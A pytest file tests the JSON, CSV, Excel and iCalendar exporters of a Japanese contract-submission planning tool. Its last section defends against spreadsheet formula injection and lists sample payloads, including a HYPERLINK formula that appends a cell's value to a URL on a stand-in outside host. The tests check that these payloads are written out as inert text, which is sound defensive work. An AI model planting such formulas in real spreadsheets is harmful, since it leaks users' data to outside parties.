"""The plan's writers: JSON keys, CSV with BOM, the 提出予定一覧 workbook, the iCalendar file."""

from __future__ import annotations

import csv
import json
import zipfile
from datetime import UTC, date, datetime
from pathlib import Path

import pytest
from icalendar import Calendar
from openpyxl import load_workbook

from hino_forms.models import Problem, Records, Severity, Submission
from hino_forms.planning import export as schedule
from hino_forms.planning.rules import plan
from tests import builders as b

D = date.fromisoformat
SUB = "有限会社架空サポート"


def records(**contract: object) -> Records:
    c = b.contract(end=D("2027-03-31"), subcontracting=True, **contract)
    return Records(
        contracts=(c,),
        subcontractors=(b.subcontractor(approved=None),),
        problems=(
            Problem(
                Severity.WARNING,
                "再委託",
                2,
                "承認日",
                "T-001",
                "有限会社架空サポート",
                "承認日がありません",
                "N",
            ),
        ),
    )


def contracts_of(r: Records) -> dict[str, object]:
    return {c.contract_id: c for c in r.contracts}


def test_json_has_exactly_the_spec_keys() -> None:
    r = records()
    doc = json.loads(schedule.to_json(plan(r), r.problems))
    assert list(doc) == ["submissions", "problems"]
    assert list(doc["submissions"][0]) == [
        "contract_id",
        "form",
        "label",
        "timing",
        "date",
        "fiscal_year",
        "submitter",
        "subcontractor",
        "status",
        "reasons",
    ]
    assert doc["problems"] == [
        {
            "severity": "warning",
            "sheet": "再委託",
            "cell": "N2",
            "contract_id": "T-001",
            "message": "再委託!N2: 承認日がありません",
        }
    ]
    fy = next(s for s in doc["submissions"] if s["timing"] == "fiscal_year")
    assert fy == {
        "contract_id": "T-001",
        "form": 4,
        "label": "様式第4号-②",
        "timing": "fiscal_year",
        "date": "2026-04-01",
        "fiscal_year": 2026,
        "submitter": "contractor",
        "subcontractor": None,
        "status": "ready",
        "reasons": [
            "§9 重要情報を取り扱う委託契約",
            "§9② 年度切り替わり時に提出（単年度契約は不要）",
        ],
    }
    assert doc["submissions"][-1]["date"] is None  # pending form 7 last
    assert "\\u" not in schedule.to_json(plan(r), [])  # Japanese as written


def test_submission_key_ignores_the_date_and_tells_apart_the_rest() -> None:
    subs = plan(records())
    keys = [schedule.submission_key(s) for s in subs]
    assert len(set(keys)) == len(keys)
    moved = Submission(**{**subs[0].__dict__, "date": D("2030-01-01")})
    assert schedule.submission_key(moved) == keys[0]


def test_csv_starts_with_a_bom_and_has_iso_and_wareki_dates(tmp_path: Path) -> None:
    r = records()
    path = tmp_path / "plan.csv"
    schedule.write_csv(path, plan(r), contracts_of(r))
    assert path.read_bytes().startswith(b"\xef\xbb\xbf")
    with open(path, encoding="utf-8-sig", newline="") as f:
        rows = list(csv.DictReader(f))
    assert list(rows[0])[:8] == [
        "契約番号",
        "業務名",
        "様式",
        "様式名",
        "時期",
        "提出日",
        "提出日（和暦）",
        "年度",
    ]
    fy = next(x for x in rows if x["様式"] == "様式第4号-②")
    assert (fy["提出日"], fy["提出日（和暦）"], fy["年度"], fy["時期"]) == (
        "2026-04-01",
        "令和8年4月1日",
        "2026",
        "②年度切替時",
    )
    assert fy["業務名"] == "架空システム保守業務委託"
    pending = rows[-1]
    assert (pending["様式"], pending["提出日"], pending["状態"], pending["再委託先"]) == (
        "様式第7号",
        "",
        "承認待ち（承認日未入力）",
        SUB,
    )


def test_xlsx_opens_with_filter_frozen_header_and_file_links(tmp_path: Path) -> None:
    r = records()
    subs = plan(r)
    files = {schedule.submission_key(subs[0]): "T-001/①契約締結時_2025-03-25/様式第2号.docx"}
    path = tmp_path / "提出予定一覧.xlsx"
    schedule.write_xlsx(path, subs, list(r.problems), files=files, contracts=contracts_of(r))
    wb = load_workbook(path)
    assert wb.sheetnames == ["提出予定一覧", "問題"]
    ws = wb["提出予定一覧"]
    assert ws.freeze_panes == "A2" and ws.auto_filter.ref == f"A1:M{len(subs) + 1}"
    header = [c.value for c in ws[1]]
    assert header == [
        "契約番号",
        "業務名",
        "様式",
        "様式名",
        "時期",
        "提出日",
        "提出日（和暦）",
        "年度",
        "提出者",
        "再委託先",
        "状態",
        "根拠",
        "ファイル",
    ]
    assert all(c.font.b for c in ws[1])
    first = [c.value for c in ws[2]]
    assert first[:8] == [
        "T-001",
        "架空システム保守業務委託",
        "様式第2号",
        "委託業務従事者体制届出書",
        "①契約締結時",
        datetime(2025, 3, 25),
        "令和7年3月25日",
        None,
    ]
    assert first[12] == files[schedule.submission_key(subs[0])]
    assert ws.cell(2, 13).hyperlink.target == first[12]
    assert ws.cell(3, 13).value in (None, "")
    assert ws.column_dimensions["L"].width > ws.column_dimensions["A"].width
    problems = wb["問題"]
    assert [c.value for c in problems[2]] == [
        "警告",
        "再委託",
        "N2",
        "T-001",
        "再委託!N2: 承認日がありません",
    ]
    assert problems.freeze_panes == "A2" and problems.auto_filter.ref


def test_xlsx_without_files_has_no_file_column(tmp_path: Path) -> None:
    path = tmp_path / "s.xlsx"
    schedule.write_xlsx(path, plan(records()), [])
    ws = load_workbook(path)["提出予定一覧"]
    assert [c.value for c in ws[1]][-1] == "根拠"


def _events(path: Path) -> list:
    cal = Calendar.from_ical(path.read_bytes())
    return list(cal.walk("VEVENT"))


def test_ics_one_all_day_event_per_dated_submission(tmp_path: Path) -> None:
    r = records()
    subs = plan(r)
    path = tmp_path / "plan.ics"
    schedule.write_ics(path, subs, contracts_of(r))
    events = _events(path)
    dated = [s for s in subs if s.date is not None]
    assert len(dated) == len(subs) - 1 and len(events) == len(dated)
    for ev, s in zip(events, dated):
        assert ev.decoded("dtstart") == s.date and not isinstance(ev.decoded("dtstart"), datetime)
        assert str(ev["uid"]).endswith("@hino-forms")
        assert ev.get("dtstamp") is not None
    fy = next(ev for ev, s in zip(events, dated) if s.label == "様式第4号-②")
    assert str(fy["summary"]) == "様式第4号-② T-001 架空システム保守業務委託"
    assert "§9 重要情報を取り扱う委託契約" in str(fy["description"])
    sub2 = next(ev for ev, s in zip(events, dated) if s.subcontractor and s.form == 2)
    assert SUB in str(sub2["summary"])


def test_ics_uids_are_stable_across_runs_and_a_moved_date(tmp_path: Path) -> None:
    first, second, moved = tmp_path / "1.ics", tmp_path / "2.ics", tmp_path / "3.ics"
    r = records()
    schedule.write_ics(first, plan(r), contracts_of(r), stamp=datetime(2025, 1, 1, tzinfo=UTC))
    schedule.write_ics(second, plan(r), contracts_of(r))
    uids = [str(e["uid"]) for e in _events(first)]
    assert len(set(uids)) == len(uids)
    assert uids == [str(e["uid"]) for e in _events(second)]
    # the contract is concluded five days earlier: same events, new dates (concluding it after
    # the subcontractor applied, 3/26, would drop the form 2 変更 that the application causes)
    later = records(concluded=D("2025-03-20"))
    schedule.write_ics(moved, plan(later), contracts_of(later))
    moved_events = {str(e["uid"]): e.decoded("dtstart") for e in _events(moved)}
    assert set(moved_events) == set(uids)
    assert D("2025-03-20") in moved_events.values()


# ---- text from the workbook never becomes a formula (issue 13 item 3) ----

EVIL = ('=HYPERLINK("http://example.invalid/?"&A1,"詳細")', "+1+1", "-2+3", "@SUM(1)", "\t=1+1")


@pytest.mark.parametrize("text", EVIL)
def test_csv_neutralises_text_that_starts_like_a_formula(tmp_path: Path, text: str) -> None:
    """OWASP: a leading ' makes a spreadsheet show the text instead of evaluating it."""
    r = records(work_name=text)
    path = tmp_path / "plan.csv"
    schedule.write_csv(path, plan(r), contracts_of(r))
    rows = list(csv.DictReader(path.read_text(encoding="utf-8-sig").splitlines(keepends=True)))
    assert {x["業務名"] for x in rows} == {"'" + text}
    assert rows[0]["契約番号"] == "T-001"  # ordinary text is left as it is


@pytest.mark.parametrize("text", EVIL)
def test_xlsx_writes_formula_like_text_as_text(tmp_path: Path, text: str) -> None:
    r = records(work_name=text, contract_id=text if text.startswith("=") else "T-001")
    problems = [Problem(Severity.WARNING, "契約", 2, "業務名", text, None, text, column="B")]
    path = tmp_path / "提出予定一覧.xlsx"
    schedule.write_xlsx(path, plan(r), problems, files={}, contracts=contracts_of(r))
    with zipfile.ZipFile(path) as z:
        for name in z.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in z.read(name), name
    wb = load_workbook(path)
    cell = wb["提出予定一覧"]["B2"]
    assert (cell.value, cell.data_type) == (text, "s")
    assert cell.quotePrefix  # editing the cell in Excel keeps it text too
    assert wb["問題"]["E2"].value.endswith(text)  # the message quotes the workbook's text
